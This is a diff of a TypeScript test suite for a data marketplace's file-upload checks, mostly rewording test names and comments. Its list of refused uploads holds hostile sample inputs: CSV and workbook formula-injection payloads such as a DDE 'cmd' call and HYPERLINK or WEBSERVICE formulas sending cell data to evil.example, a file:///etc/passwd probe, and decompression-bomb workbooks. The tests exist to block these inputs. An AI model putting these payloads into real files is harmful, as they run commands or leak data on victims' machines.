@@ -20,7 +20,7 @@ const rival = await server.join('user');
 const category = await server.addCategory();
 const product = (url: string, more: object = {}) => productBody({ subcategory: category, url, ...more });
 const files = () => server.db.selectFrom('files').selectAll().orderBy('id').execute();
-const listed = async (bytes: string, more: object = {}) => {
+const listFile = async (bytes: string, more: object = {}) => {
   const { id } = await added(server, bytes, seller);
   return { file: id, id: await seller.list(product(`file:${id}`, more)) };
 };
@@ -32,7 +32,7 @@ const buy = async (streamId: string) => {
 const read = (url: URL, headers: Record<string, string> = {}) =>
   server.app.inject({ url: url.pathname + url.search, headers });
 
-it('refuses a file that does not fit beside the other files of the person', async () => {
+it('refuses a file beyond the total size per person', async () => {
   const small = await openTestExchange({ env: { UPLOAD_TOTAL: '1' } });
   onTestFinished(() => small.close());
   const person = await small.join('user');
@@ -43,7 +43,7 @@ it('refuses a file that does not fit beside the other files of the person', asyn
 });
 
 describe('an uploaded file', () => {
-  it('is measured by the reply and sold like an address', async () => {
+  it('is measured on upload and sold like an address', async () => {
     const file = await added(server, csv, { ...seller, name: 'Levels 2024.csv' });
     expect(file).toMatchObject({ name: 'Levels 2024.csv', bytes: csv.length });
     expect(file.sample.schema.map(({ name }) => name)).toEqual(['day', 'station', 'level']);
@@ -64,8 +64,8 @@ describe('an uploaded file', () => {
     expect([parquet.statusCode, parquet.rawPayload.toString('latin1', 0, 4)]).toEqual([200, 'PAR1']);
   });
 
-  it('keeps its address from every answer', async () => {
-    const { id, file } = await listed(csv);
+  it('never has its address in an answer', async () => {
+    const { id, file } = await listFile(csv);
     const buyer = await buy(id);
     const answers = await Promise.all([
       seller.call('GET', `/streams/streams/${id}`),
@@ -90,7 +90,7 @@ describe('an uploaded file', () => {
     const { id: file } = await added(server, csv, seller);
     const url = `file:${file}`;
     expect((await rival.call('POST', '/streams/streams', product(url))).json()).toMatchObject({
-      fields: { url: 'is no file of yours: upload it again' },
+      fields: { url: 'is not one of your files: upload it again' },
     });
     expect((await rival.call('POST', '/streams/probe', { url })).statusCode).toBe(400);
     const own = await rival.list(product('https://data.example.org/rival'));
@@ -100,8 +100,8 @@ describe('an uploaded file', () => {
     expect((await seller.call('POST', '/streams/probe', { url: 'file:///etc/passwd' })).statusCode).toBe(400);
   });
 
-  it('is replaced at one moment, while a reader of the earlier version reads on', async () => {
-    const { id, file } = await listed(csv);
+  it('is replaced atomically, while a reader of the earlier version reads on', async () => {
+    const { id, file } = await listFile(csv);
     const { address } = await buy(id);
     const reading = await server.exchange.upstream.open(`file:${file}`);
     const next = 'day,station,level\n2025-01-01,S9,9.9\n2025-01-02,S9,9.8\n';
@@ -138,7 +138,7 @@ describe('an uploaded file', () => {
     expect(reply.json()).toMatchObject({ fields: { url: 'is an uploaded file, not a page about the algorithm' } });
   });
 
-  it('is removed when five newer ones are not listed either', async () => {
+  it('is removed if it and five newer files are not listed', async () => {
     const other = await server.join('user');
     const ids: string[] = [];
     for (let at = 0; at < 7; at += 1) ids.push((await added(server, `a,b\n${at},2\n3,4\n`, other)).id);
@@ -146,7 +146,7 @@ describe('an uploaded file', () => {
   });
 });
 
-describe('an upload that is cut off', () => {
+describe('an interrupted upload', () => {
   const long = Buffer.from(csv + '2024-02-01,S1,1.0\n'.repeat(20_000));
   it.each([0, 1, 5_000, 70_000, long.length - 1])('leaves nothing after %i bytes', async (cutAt) => {
     const before = [stored(server), await files()];
@@ -173,7 +173,7 @@ const sheet =
 const usual = gzipSync(Buffer.concat([Buffer.from('a,b\n'), Buffer.alloc(3_000_000, `1,${'2'.repeat(97)}\n`)]));
 const zip = Buffer.from(zipSync({ 'a.csv': Buffer.from(csv) }));
 
-/** 30,000 rows, of which the last alone has a formula. */
+/** 30,000 rows. Only the last one has a formula. */
 const longTable = `a,b\n${'1,x\n'.repeat(29_999)}1,"=WEBSERVICE(""https://evil.example/"")"\n`;
 
 /** @param stored formula of the first cell, which has a stored value */
@@ -203,8 +203,8 @@ function workbook(rows: number, stored?: string, more: Record<string, string | B
 
 const [formula, webService] = [/spreadsheet formula/u, /\(=WEBSERVICE\(…\)/u];
 const refused: [string, () => Buffer | string, RegExp, status?: number][] = [
-  ['nothing', () => '', /empty/u],
-  ['more than the limit', () => Buffer.alloc(4 * 2 ** 20 + 1, 'a,b\n'), /larger than 4 MB/u, 413],
+  ['no content', () => '', /empty/u],
+  ['more bytes than the limit', () => Buffer.alloc(4 * 2 ** 20 + 1, 'a,b\n'), /larger than 4 MB/u, 413],
   ['10,000 columns', () => wide, /10000 columns; at most 2000/u],
   ['a web page', () => '<!doctype html><table><tr><td>1</table>', /web page/u],
   ['a PDF document', () => '%PDF-1.7\n1 0 obj', /PDF/u],
@@ -212,7 +212,7 @@ const refused: [string, () => Buffer | string, RegExp, status?: number][] = [
   ['a program', () => Buffer.concat([Buffer.from('\u007FELF'), Buffer.alloc(4096)]), /not text/u],
   ['a table that is also a zip archive', () => Buffer.concat([Buffer.from(csv), zip]), /also a zip archive/u],
   ['a table that is also a PDF', () => `a,b\n1,%PDF-1.4\n`, /also a PDF/u],
-  ['an archive with a second one', () => Buffer.concat([zip, Buffer.from('<script>1</script>')]), /behind the end/u],
+  ['an archive followed by another', () => Buffer.concat([zip, Buffer.from('<script>1</script>')]), /behind the end/u],
   [
     'two files in an archive',
     () => Buffer.from(zipSync({ 'a.csv': Buffer.from('a\n1\n'), 'b.csv': Buffer.from('a\n1\n') })),
@@ -223,15 +223,15 @@ const refused: [string, () => Buffer | string, RegExp, status?: number][] = [
     () => Buffer.from(zipSync({ 'xl/worksheets/sheet1.xml': Buffer.from(sheet) })).subarray(0, 90),
     /archive|workbook/u,
   ],
-  ['a command of a spreadsheet', () => `a,b\n1,=cmd|' /C calc'!A0\n`, formula],
+  ['a spreadsheet command', () => `a,b\n1,=cmd|' /C calc'!A0\n`, formula],
   ['a formula that calls an address', () => `a,b\n1,"=HYPERLINK(""https://evil.example/""&A1)"\n`, formula],
   [
     'a formula in UTF-16',
     () => Buffer.from(`\uFEFFa,b\n1,"=HYPERLINK(""https://evil.example/"")"\n`, 'utf16le'),
     formula,
   ],
-  ['a packed formula', () => gzipSync(`a,b\n1,"=WEBSERVICE(""https://evil.example/"")"\n2,3\n`), formula],
-  ['a formula in row 30,000 of a packed table', () => gzipSync(longTable), webService],
+  ['a compressed formula', () => gzipSync(`a,b\n1,"=WEBSERVICE(""https://evil.example/"")"\n2,3\n`), formula],
+  ['a formula in row 30,000 of a compressed table', () => gzipSync(longTable), webService],
   [
     'a formula in row 30,000 of an archive',
     () => Buffer.from(zipSync({ 'a.csv': Buffer.from(longTable) })),
@@ -263,7 +263,7 @@ const refused: [string, () => Buffer | string, RegExp, status?: number][] = [
     /\(=CALL\(…\)/u,
   ],
   [
-    'a workbook that grows 400 times',
+    'a workbook that unpacks to 400 times its size',
     () => workbook(3, '1+1', Object.fromEntries(['1', '2', '3'].map((one) => [`xl/${one}.xml`, ' '.repeat(2 ** 25)]))),
     /larger when unpacked/u,
   ],
@@ -289,25 +289,25 @@ it('reads other formulas of a workbook as their stored values', async () => {
   expect(reply.json<{ sample: { rows: unknown[] } }>().sample.rows[0]).toEqual({ a: 1, b: 'x' });
 });
 
-describe('a file that is refused with a reason', () => {
-  it.each(refused)('is one with %s', async (_name, bytes, reason, status = 422) => {
+describe('checks of an uploaded file', () => {
+  it.each(refused)('refuse content with a reason: %s', async (_name, bytes, reason, status = 422) => {
     const before = [stored(server), await files()];
     const reply = await upload(server, bytes(), seller);
     expect([reply.statusCode, reply.json<{ error: string }>().error]).toEqual([status, expect.stringMatching(reason)]);
     expect([stored(server), await files()]).toEqual(before);
   });
 
-  it('accepts a packed table of usual size', async () => {
+  it('accept a compressed table of usual size', async () => {
     expect((await upload(server, usual, seller)).statusCode).toBe(201);
   });
 
-  it('is none that was read too slowly', () => {
+  it('report a slow read as busy, not as a fault of the file', () => {
     const slow = new Refusal(502, 'source_failed', 'a', { cause: new SlowError('a') });
     expect(refusedReading(slow)).toMatchObject({ status: 503, code: 'busy', retryAfter: 60 });
     expect(refusedReading(new Refusal(502, 'source_failed', 'a'))).toMatchObject({ status: 422 });
   });
 
-  it('has no declared length', async () => {
+  it('require a declared length', async () => {
     expect((await seller.call('POST', '/streams/files?name=a')).statusCode).toBe(411);
   });
 });
@@ -345,13 +345,13 @@ describe('a price for data that is not listed yet', () => {
     });
     expect(await ask(['x'], group)).toMatchObject({ products: 5, similar: false, middle: 30_000 });
     expect(await ask(['x'], category)).toEqual({ products: 0, similar: false });
-    // The mean of the compared products, a month of the last three.
+    // Mean hours per month of the compared products, over the last three months.
     const sales = server.db.updateTable('subscriptions').where('user_id', '=', rival.id);
     await sales.set({ hours: 60 }).execute();
     expect(await ask(['x'], group)).toMatchObject({ products: 5, hours: 20 });
     await sales.where('seller_id', '=', seller.id).set({ hours: 45 }).execute();
     expect(await ask(['x'], group)).toMatchObject({ products: 5, hours: 18 });
-    // Most of it would be the figure of one seller.
+    // Hidden, because most hours are those of one seller.
     await sales.where('seller_id', '=', seller.id).set({ hours: 200 }).execute();
     expect(await ask(['x'], group)).not.toHaveProperty('hours');
     await sales.set({ hours: 60 }).execute();
